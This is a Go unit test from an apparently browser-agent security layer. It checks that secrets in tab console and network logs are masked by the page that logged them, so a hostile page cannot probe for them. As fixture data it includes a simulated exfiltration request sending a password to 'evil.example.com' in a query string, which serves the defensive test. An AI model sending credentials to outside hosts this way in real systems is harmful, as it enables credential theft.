package executor

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"

	"github.com/browsergate/browsergate/gate"
	"github.com/browsergate/browsergate/internal/testkit"
	"github.com/browsergate/browsergate/toolclad"
)

// TestLogEntriesAreMaskedForWhereTheyWereLogged: an entry of the tab's
// logs is masked for the secrets of the page it was logged on and those
// the binding held then, whatever page the tab is on when the agent reads
// it; and only for those: what a page off the secret's domains logs or
// sends after the tab left the site (a hostile page printing candidates)
// comes back as it was, so the log replies are no oracle.
func TestLogEntriesAreMaskedForWhereTheyWereLogged(t *testing.T) {
	const value = "Zq8-Lm2_Vx7-Kp4"
	m := testkit.SecretManifest(t, value) // PW on login.example.com, *.auth.example.com
	s := maskSession(t, m)
	s.egress.bound.Bind("login.example.com", []*toolclad.Secret{m.Secrets[0]}, s.secrets.Load())
	l := newPageLog()
	l.stamp = s.logStamp
	text, _ := json.Marshal("pw " + value)
	logBoth := func(doc string) {
		l.record(&runtime.EventConsoleAPICalled{Type: runtime.ConsoleAPICalledTypeLog,
			Args: []*runtime.RemoteObject{{Type: runtime.RemoteObjectTypeString, Value: text}}})
		l.record(&network.EventRequestWillBeSent{RequestID: network.RequestID(doc), DocumentURL: "https://" + doc + "/",
			Request: &network.Request{Method: "POST", URL: "https://evil.example.com/?pw=" + value}})
	}
	logBoth("login.example.com") // the secret's page logs and sends it off its domains
	s.egress.bound.Committed("hostile.example.com")
	s.egress.bound.Now = func() time.Time { return time.Now().Add(gate.LeftGrace) }
	logBoth("hostile.example.com") // a page the agent navigated to prints a guess
	s.observed("https://hostile.example.com/")

	for i, want := range []bool{true, false} {
		what := map[bool]string{true: "logged on the secret's page", false: "logged off its domains after leaving"}[want]
		c := l.console[i]
		if got := s.logMask(c.logged, nil)(c.Text); strings.Contains(got, value) == want {
			t.Errorf("a console message %s reads %q", what, got)
		}
		r := *l.requests[i]
		s.shown(&r, nil)
		if strings.Contains(r.URL, value) == want {
			t.Errorf("a request %s reads %q", what, r.URL)
		}
	}
}
